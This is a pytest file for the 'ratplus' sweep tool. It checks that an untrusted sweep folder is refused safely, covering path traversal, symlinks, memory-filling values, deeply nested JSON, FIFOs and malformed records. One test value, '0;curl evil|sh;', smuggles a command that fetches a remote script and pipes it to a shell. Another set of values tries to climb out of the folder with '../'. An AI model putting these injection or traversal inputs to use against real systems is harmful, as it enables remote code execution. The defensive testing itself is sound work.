"""A sweep folder that somebody sent: nothing outside of it is read, written, removed or prepared."""

import json
import os
import shutil
from pathlib import Path

import pytest
from cli_runs import ratplus_here

from ratplus.records.lock import FolderLock, is_locked
from ratplus.records.manifest import read_manifest
from ratplus.records.record import RecordError, _checksum, make_record, read_record, record_text
from ratplus.records.samples import read_samples
from ratplus.records.status import stage_state
from ratplus.sweeps.batch.jobs_file import JobsUnknown, read_jobs
from ratplus.sweeps.launch.progress import read_progress
from ratplus.sweeps.mirror.runs import report_run

OLD = Path(__file__).parents[1] / "data" / "sweep_before_folders"
EVALUATED, PRETRAINED = "d56798413177", "185a72309e0e"
DEEP = "[" * 200_000


@pytest.fixture
def place(tmp_path, monkeypatch):
    shutil.copytree(OLD, tmp_path, dirs_exist_ok=True)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def change_manifest(place, change) -> None:
    path = place / "sweep" / "sweep.json"
    manifest = json.loads(path.read_text())
    change(manifest)
    path.write_text(json.dumps(manifest))


def told(place, *words) -> str:
    """The one line of a command that refuses."""
    done = ratplus_here(place, *words)
    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.count("\n") == 1
    return done.stderr


@pytest.mark.parametrize("verb", ["status", "report", "sync"])
@pytest.mark.parametrize(
    ("change", "line"),
    [
        (lambda m: m["cells"][0]["stages"].update(evaluate=f"x/../../mine/{EVALUATED}"), "not an id of 12 hex digits"),
        (lambda m: m["cells"][0].update(id="0;curl evil|sh;"), "not an id of 12 hex digits"),
        (lambda m: m["cells"][0]["stages"].update({"../x": EVALUATED}), "stage '../x'"),
        (lambda m: m["cells"][0]["stages"].pop("pretrain"), "it has no stage pretrain"),
        (lambda m: m["cells"][0].update(seed=[]), "seed is a list"),
        (lambda m: m["cells"][0]["config"].update(model=1), "config.model is a int"),
        (lambda m: m.update(name=["x"]), "its name is no text"),
    ],
)  # fmt: skip
def test_what_is_no_cell_is_refused_before_anything_is_done(place, verb, change, line):
    change_manifest(place, change)
    before = sorted(place.rglob("*"))
    assert line in told(place, verb, "sweep", *(["--offline"] if verb == "sync" else []))
    assert sorted(place.rglob("*")) == before


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (lambda m: m.update(name="x" * 10_000_000), "its name is no text"),
        (lambda m: m["cells"][0].update(label="x" * 10_000_000), "label has 10,000,000 characters"),
        (lambda m: m["cells"][0].update(axes={f"k{n}": n for n in range(5000)}), "it has 5,000 axes"),
        (lambda m: m["cells"][0]["config"]["model"].update(layers=10**7), "model.layers: got 10000000"),
        (
            lambda m: m["cells"][0]["config"]["model"].update(layers=9999, d_model=131072, d_head=2),
            "more than 100000 heads",
        ),
        (lambda m: m["cells"][0]["config"]["train"].update(context=10**12), "train.context: got 1000000000000"),
        (lambda m: m["cells"][0]["config"]["train"].update(context=float("inf")), "train.context: got inf"),
        (lambda m: m["cells"][0]["config"]["train"].update(pretrain=[1]), "config.train.pretrain is a list"),
        (lambda m: m["cells"][0]["run"]["logger"].update(tags=[1]), "run.logger.tags hold what is no text"),
        (lambda m: m["cells"][0].update(seed=1 << 70), "more than 63 bits"),
    ],
)  # fmt: skip
def test_sizes_and_names_that_would_fill_memory_or_a_screen(place, change, line):
    change_manifest(place, change)
    with pytest.raises(RecordError, match=line):
        read_manifest(place / "sweep")


@pytest.mark.parametrize("link", ["report", "wandb", "logs", "logs/x.log", f"evaluate/{EVALUATED}", "pretrain"])
def test_links_are_refused(place, link):
    home = place / "home"
    home.mkdir()
    (home / "index.html").write_text("mine")
    target = place / "sweep" / link
    if target.exists():
        shutil.rmtree(target)
    target.parent.mkdir(exist_ok=True)
    target.symlink_to(home)
    assert f"sweep/{link}: is a link" in told(place, "report", "sweep")
    assert sorted(p.name for p in home.iterdir()) == ["index.html"]
    assert (home / "index.html").read_text() == "mine"


def test_a_folder_that_holds_links_is_not_gone_on_with(place):
    """Also where there is no sweep.json yet, as in a folder that was made to wait for a sweep."""
    precious = place / "precious"
    precious.write_text("mine")
    (place / "new" / "logs").mkdir(parents=True)
    (place / "new" / "logs" / "0123456789ab.job.json").symlink_to(precious)
    done = ratplus_here(place, "sweep", "model=ratplus_nano", "data=text", "data.path=text.txt", "train.context=64",
                        "data.recall.length=32", "data.recall.keys=4", "data.recall.pairs=4", "output=new")  # fmt: skip
    assert (done.returncode, "0123456789ab.job.json: is a link" in done.stderr) == (2, True)
    assert precious.read_text() == "mine"


def test_files_that_links_point_to_are_not_sent(place):
    (place / "secret.csv").write_text("a\n1\n")
    report = place / "sweep" / "report"
    report.mkdir()
    (report / "mine.csv").write_text("b\n2\n")
    (report / "theirs.csv").symlink_to(place / "secret.csv")
    run = report_run(place / "sweep", [])
    assert [path.name for path in run.files] == ["mine.csv"]


@pytest.mark.parametrize("name", ["../../escaped", "a/b", "..", ".", "two\nlines", "a\\b", 7])
def test_the_name_of_a_sweep_is_no_path(place, name):
    (place / "my" / "sweep").mkdir(parents=True)
    (place / "my" / "sweep" / "given.yaml").write_text(json.dumps({"name": name, "grid": {"pattern": ["dense"]}}))
    line = told(place, "sweep", "sweep=given", "--config-dir", "my", "model=ratplus_nano", "dry_run=true")
    assert line.startswith("ratplus: error: sweep.name: got")


def test_data_that_a_folder_names_is_neither_read_nor_made(place):
    """`generate` needs the tokenizer of a sweep's corpus, `report --gates` its text: what is there already."""
    change_manifest(place, lambda m: [c["config"]["data"].update(path="home") for c in m["cells"]])
    change_manifest(place, lambda m: [c["corpus"].update(tokenizer="huggingface-0123456789ab") for c in m["cells"]])
    (place / "home").mkdir()
    (place / "home" / "diary.txt").write_text("mine " * 5000)
    shutil.copytree(place / "sweep" / "pretrain", place / "kept")
    line = told(place, "generate", f"model={PRETRAINED}", "sweep=sweep", "prompt=x")
    assert "no corpus here; make it with `ratplus prepare`, if you trust where data.source=text data.path=home" in line
    assert "no corpus here" in told(place, "report", "sweep", "--gates")
    assert not (place / "data").exists()


# ---- odd files ----------------------------------------------------------------------------------------------------


def odd_record(folder: Path, **changes) -> None:
    """A record with a true checksum that says what no record of ours does."""
    record = json.loads((folder / "record.json").read_text()) | changes
    record.pop("checksum")
    (folder / "record.json").write_text(record_text(record | {"checksum": _checksum(record)}))


@pytest.mark.parametrize(
    "changes",
    [
        {"metrics": {"loss": 1}}, {"metrics": {"loss": {"value": "x", "stderr": None}}}, {"metrics": []},
        {"timing": {"seconds": "long"}}, {"provenance": {"git": "x"}}, {"parent": 1}, {"stage": ["x"]},
        {"error": {"type": "E", "message": ["x"]}}, {"error": {"traceback": [1]}}, {"config": None},
    ],
)  # fmt: skip
def test_an_odd_record_is_damaged_and_takes_no_other_with_it(place, changes):
    folder = place / "sweep" / "evaluate" / EVALUATED
    odd_record(folder, **changes)
    with pytest.raises(RecordError, match="not a record"):
        read_record(folder)
    done = ratplus_here(place, "status", "sweep", "--json")
    assert sorted(cell["status"] for cell in json.loads(done.stdout)["cells"]) == ["damaged", "done"]


@pytest.mark.parametrize(
    "changes",
    [
        {"config": {"x": float("nan")}}, {"error": {"traceback": "x"}}, {"error": {"attempt": [1]}},
        {"provenance": {"git": {"commit": None}}}, {"provenance": {"tasks": {"recall": 7}}},
        {"metrics": {"x" * 1000: {"value": 1, "stderr": None, "count": 1}}},
    ],
)  # fmt: skip
def test_more_odd_records(place, changes):
    folder = place / "sweep" / "evaluate" / EVALUATED
    odd_record(folder, **changes)
    state = stage_state(folder)
    assert (state.status, "not a record" in state.error) == ("damaged", True)


def test_every_record_that_is_written_can_be_read(tmp_path):
    record = make_record(
        stage="pretrain", config={"a": 1}, parent=None, status="failed", metrics={}, timing={}, provenance={},
        error={"type": "E", "message": "m", "traceback": ["x"]},
    )  # fmt: skip
    folder = tmp_path / record["id"]
    folder.mkdir()
    (folder / "record.json").write_text(record_text(record))
    assert read_record(folder) == record


@pytest.mark.parametrize("text", [DEEP, "[]", '{"token": 1}', "NaN", '{"token": "../../x", "host": "h", "pid": 1}'])
def test_an_odd_lock_is_no_holder_and_names_no_file(tmp_path, text):
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    (folder / "lock.json").write_text(text)
    assert not is_locked(folder)
    with FolderLock(folder, lease=0.1) as lock:
        assert lock.held()
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a", "b"]


@pytest.mark.parametrize(
    "line", ["[1]", "7", '{"task": "x"}', '{"id": [1]}', '{"id": 1, "count": "x"}', '{"id": 1, "filter": [1]}', DEEP,
             '{"id": 99999999999999999999}', "x" * (2 << 20)],
)  # fmt: skip
def test_odd_samples_are_damaged(tmp_path, line):
    (tmp_path / "samples.jsonl").write_text('{"task": "loss", "id": 0, "loss": 1.5, "count": 3}\n' + line + "\n")
    with pytest.raises(ValueError, match=r"samples.jsonl: damaged"):
        read_samples(tmp_path)


@pytest.mark.parametrize("text", [DEEP, "[]", '{"stage": 1, "done": 1, "total": 1}', '{"stage": "x", "done": "1"}'])
def test_odd_progress_is_none(tmp_path, text):
    (tmp_path / "x.progress.json").write_text(text)
    assert read_progress(tmp_path / "x.progress.json") == {}


@pytest.mark.parametrize(
    "rows",
    [
        DEEP, "7", "[7]", '[{"id": "a", "cluster": "b", "jobs": {"x": 1}}]', '[{"id": "a"}]',
        '[{"id": "../../../../a", "cluster": "slurm", "jobs": {}}]',
        '[{"id": "0123abcd", "cluster": "slurm", "jobs": {"0123456789ab": "../../7"}}]',
        '[{"id": "0123abcd", "cluster": "slurm", "jobs": {"0123456789ab": "--all"}}]',
        '[{"id": "0123abcd", "cluster": "slurm", "jobs": {"../../0123456789ab": "7"}}]',
        '[{"id": "0123abcd", "cluster": "slurm", "jobs": {"0123456789ab": "7"}, "launcher": 1}]',
    ],
)  # fmt: skip
def test_odd_jobs_are_damaged(tmp_path, rows):
    (tmp_path / "jobs.json").write_text(f'{{"format": 1, "submissions": {rows}}}')
    with pytest.raises(JobsUnknown, match="damaged"):
        read_jobs(tmp_path)


def test_pipes_hold_no_command_up(place):
    for name in (f"evaluate/{EVALUATED}/record.json", f"pretrain/{PRETRAINED}/curve.csv", "jobs.json"):
        path = place / "sweep" / name
        path.unlink(missing_ok=True)
        os.mkfifo(path)
    done = ratplus_here(place, "status", "sweep")
    assert "not a plain file" in done.stdout


@pytest.mark.parametrize("words", [["best", "sweep", "--metric", "loss"], ["compare", "sweep", "D1", "D16"]])
def test_a_verb_that_finds_no_result_names_the_file_that_is_damaged(place, words):
    for record in (place / "sweep" / "evaluate").glob("*/record.json"):
        record.write_text(record.read_text()[:-20])
    line = told(place, *words)
    assert "2 cells are damaged or failed, the first: evaluate/" in line
    assert "record.json: not a whole record" in line
